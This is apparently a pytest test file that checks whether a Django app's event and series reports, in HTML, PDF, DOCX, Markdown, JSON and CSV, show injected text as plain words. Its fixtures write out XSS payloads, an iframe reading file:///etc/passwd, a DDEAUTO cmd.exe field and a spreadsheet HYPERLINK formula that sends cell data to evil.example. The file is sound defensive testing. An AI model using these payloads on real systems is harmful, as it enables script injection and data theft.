"""Injected markup and formulas in every report format (HTML, PDF, DOCX, Markdown, JSON, CSV),
for an event's report and the series report.

The live services refuse HTML in notes, chat, answers and titles, so hostile words can only
reach a report through a path that skipped those checks (an older row, an import, a future
bug). These tests write them straight into the database, in every kind of text a report
shows (note, chat message, priority, closing answer, theme title and summary, conclusions,
the event's title, a proposal), and read each format back the way its reader would: the
words are there, as words, and nothing in them became markup, a link, a field or a formula.
"""

import csv
import io
import json
import re
from html.parser import HTMLParser

import docx
import pytest
from django.test import Client
from django.urls import reverse
from django.utils import timezone
from pypdf import PdfReader

from cafes.models import ChatMessage, ClosingAnswer, Note, Priority
from harvest.models import EventHarvest, Theme
from harvest.services import build_themes
from openspace.models import Proposal
from reports.document import build_document
from reports.models import ReportFile, ReportStatus, ReportVersion
from reports.renderers import RENDERERS, render
from reports.series_document import build_series_document
from tests.reports.conftest import load_report_event

pytestmark = pytest.mark.django_db

PAYLOAD = (
    "<script>alert(1)</script><img src=x onerror=alert(2)> "
    '[click](javascript:alert(3)) <a href="http://evil.example">x</a> '
    '<iframe src="file:///etc/passwd"></iframe> <svg onload=alert(4)> '
    '{DDEAUTO c:\\\\windows\\\\cmd.exe "/k calc"} &lt;b&gt;'
)
FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"click") '
INVISIBLE = "\ufeff\u200b\u200c\u200d\u2060\u00a0 "


def runs_in_a_spreadsheet(cell: str) -> bool:
    """What Excel, LibreOffice and Sheets take for a formula: a first visible character of
    = + - @, or a tab or carriage return (checked here, not with the renderer's own code)."""
    visible = cell.lstrip(INVISIBLE)
    return cell[:1] in ("\t", "\r") or visible[:1] in ("=", "+", "-", "@")


DANGEROUS_TAGS = {"script", "img", "iframe", "svg", "object", "embed", "form", "base", "link"}


def plant(event) -> list[str]:
    """Hostile words in each kind of text the event's report shows; their markers."""
    build_themes(event=event, user=None)
    note = Note.objects.filter(event=event, round__number=1).order_by("id").first()
    Note.objects.filter(pk=note.pk).update(text="NOTEMARK " + PAYLOAD)
    chat = ChatMessage.objects.filter(event=event).order_by("id").first()
    ChatMessage.objects.filter(pk=chat.pk).update(text=FORMULA + "CHATMARK " + PAYLOAD)
    priority = Priority.objects.filter(round__event=event).order_by("id").first()
    Priority.objects.filter(pk=priority.pk).update(text="\ufeff=1+1 PRIOMARK " + PAYLOAD)
    answer = ClosingAnswer.objects.filter(question__event=event).order_by("id").first()
    ClosingAnswer.objects.filter(pk=answer.pk).update(text="ANSWERMARK " + PAYLOAD)
    theme = Theme.objects.filter(event=event).order_by("id").first()
    Theme.objects.filter(pk=theme.pk).update(
        title="THEMEMARK <script>alert(5)</script>", summary="SUMMARYMARK " + PAYLOAD
    )
    EventHarvest.objects.update_or_create(
        event=event, defaults={"conclusions": "CONCLUSIONMARK " + PAYLOAD}
    )
    type(event).objects.filter(pk=event.pk).update(title='Event <img src=x onerror="alert(6)">')
    return ["NOTEMARK", "CHATMARK", "PRIOMARK", "ANSWERMARK", "THEMEMARK", "CONCLUSIONMARK"]


@pytest.fixture(scope="module")
def event_report(django_db_setup, django_db_blocker):
    """Every format of an event's report with hostile words in it (compiled once)."""
    with django_db_blocker.unblock():
        from django.db import transaction

        with transaction.atomic():
            event = load_report_event()
            markers = plant(event)
            event.refresh_from_db()
            doc = build_document(event=event, version=1, compiled_at=timezone.now())
            files = {fmt: render(doc, fmt) for fmt in RENDERERS}
            transaction.set_rollback(True)
    return files, markers


class Tags(HTMLParser):
    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.tags: list[tuple[str, list[tuple[str, str | None]]]] = []
        self.text: list[str] = []

    def handle_starttag(self, tag, attrs):
        self.tags.append((tag, attrs))

    def handle_data(self, data):
        self.text.append(data)


def parse_html(content: bytes) -> Tags:
    parser = Tags()
    parser.feed(content.decode())
    return parser


def test_html_shows_the_words_and_runs_nothing(event_report):
    files, markers = event_report
    page = parse_html(files["html"])
    text = "".join(page.text)
    for marker in markers:
        assert marker in text, marker
    assert "<script>alert(1)</script>" in text  # shown as words
    assert DANGEROUS_TAGS.isdisjoint(tag for tag, _ in page.tags)
    for tag, attrs in page.tags:
        for name, value in attrs:
            assert not name.startswith("on"), (tag, name)
            assert name not in {"src", "srcdoc", "formaction", "action"}, (tag, name)
            if name == "href":
                assert value.startswith("#"), (tag, value)  # only the contents' own anchors


def test_pdf_shows_the_words_and_holds_no_script_link_or_fetched_file(event_report):
    files, markers = event_report
    content = files["pdf"]
    text = " ".join(
        " ".join(page.extract_text() for page in PdfReader(io.BytesIO(content)).pages).split()
    )
    for marker in markers:
        assert marker in text, marker
    assert "<script>alert(1)</script>" in text
    for active in (b"/JavaScript", b"/JS ", b"/Launch", b"/EmbeddedFile", b"/URI", b"/Image"):
        assert active not in content, active


def test_docx_shows_the_words_and_holds_no_link_or_field_of_theirs(event_report):
    files, markers = event_report
    document = docx.Document(io.BytesIO(files["docx"]))
    cells = [c.text for t in document.tables for row in t.rows for c in row.cells]
    text = "\n".join([p.text for p in document.paragraphs] + cells)
    for marker in markers:
        assert marker in text, marker
    assert "<script>alert(1)</script>" in text
    assert '{DDEAUTO c:\\\\windows\\\\cmd.exe "/k calc"}' in text  # words, not a field
    assert not [r for r in document.part.rels.values() if r.is_external]
    xml = document.part.blob.decode()
    fields = re.findall(r"<w:instrText[^>]*>([^<]*)<", xml) + re.findall(r'w:instr="([^"]*)"', xml)
    assert fields  # the contents and page numbers are fields...
    for field in fields:  # ...and they are the only ones
        assert field.split()[0] in {"TOC", "PAGE", "NUMPAGES"}, field


UNESCAPED = re.compile(r"(?<!\\)<(?:/?[a-z]|!)|(?<!\\)\]\(|(?<!\\)\[(?!\^)[^\]]*(?<!\\)\]\(")


def test_markdown_shows_the_words_and_makes_no_markup_or_link_of_them(event_report):
    files, markers = event_report
    md = files["md"].decode()
    for marker in markers:
        assert marker in md, marker
    lines = [line for line in md.splitlines() if any(m in line for m in markers)]
    assert lines
    for line in lines:
        assert not UNESCAPED.search(line), line
        assert "\\<script\\>alert(1)\\</script\\>" in line or "alert(1)" not in line
        assert "\\[click\\](javascript:alert(3))" in line or "javascript" not in line


def test_json_carries_the_words_exactly_as_data(event_report):
    files, _ = event_report
    data = json.loads(files["json"])
    strings = list(_strings(data))
    assert "NOTEMARK " + PAYLOAD in strings
    assert "ANSWERMARK " + PAYLOAD in strings
    assert "&lt;script&gt;" not in "".join(strings)  # not escaped twice: data stays data


def _strings(value):
    if isinstance(value, str):
        yield value
    elif isinstance(value, dict):
        for item in value.values():
            yield from _strings(item)
    elif isinstance(value, list):
        for item in value:
            yield from _strings(item)


def test_csv_holds_no_cell_a_spreadsheet_would_run(event_report):
    files, _ = event_report
    rows = list(csv.reader(io.StringIO(files["csv"].decode("utf-8-sig"))))
    cells = [cell for row in rows for cell in row]
    for marker in ("NOTEMARK", "CHATMARK", "PRIOMARK", "ANSWERMARK"):
        assert any(marker in cell for cell in cells), marker
    assert any(cell.startswith("'" + FORMULA) for cell in cells)
    assert any(cell.startswith("'\ufeff=1+1 ") for cell in cells)
    for cell in cells:
        assert not runs_in_a_spreadsheet(cell), cell


def test_a_downloaded_html_report_is_an_attachment_never_a_page_of_the_site(settings, tmp_path):
    """The HTML report is opened from disk, never rendered in the site's origin."""
    from tests.cafes.conftest import make_event, staff_viewer

    settings.MEDIA_ROOT = tmp_path
    event = make_event()
    version = ReportVersion.objects.create(
        event=event, number=1, status=ReportStatus.DONE, progress=100, step="Ready"
    )
    path = tmp_path / "reports" / "r.html"
    path.parent.mkdir(parents=True)
    path.write_bytes(b"<!doctype html><p>&lt;script&gt;</p>")
    report_file = ReportFile.objects.create(
        version=version, format="html", file="reports/r.html", size=1, sha256="0" * 64
    )
    client = Client()
    client.force_login(staff_viewer(event).user)
    response = client.get(reverse("reports:download", args=[report_file.pk]))
    assert response.status_code == 200
    assert response["Content-Disposition"].startswith("attachment;")
    assert response["X-Content-Type-Options"] == "nosniff"
    assert response["Content-Type"].startswith("text/html")


def test_the_series_report_shows_a_hostile_proposal_as_words_in_every_format():
    from tests.reports.test_series_report import every_format_as_text, make_series_report

    setup = make_series_report()[0]
    Proposal.objects.update(
        problem="PROPOSALMARK " + PAYLOAD, change=FORMULA + "CHANGEMARK " + PAYLOAD
    )
    doc = build_series_document(series=setup.series, version=1, compiled_at=timezone.now())
    texts = every_format_as_text(doc)
    for fmt, text in texts.items():
        assert "PROPOSALMARK" in text, fmt
    page = parse_html(render(doc, "html"))
    assert "<script>alert(1)</script>" in "".join(page.text)
    assert DANGEROUS_TAGS.isdisjoint(tag for tag, _ in page.tags)
    md = texts["md"]
    for line in (line for line in md.splitlines() if "PROPOSALMARK" in line):
        assert not UNESCAPED.search(line), line
    cells = [c for row in csv.reader(io.StringIO(texts["csv"])) for c in row]
    assert any("CHANGEMARK" in c for c in cells)
    for cell in cells:
        assert not runs_in_a_spreadsheet(cell), cell
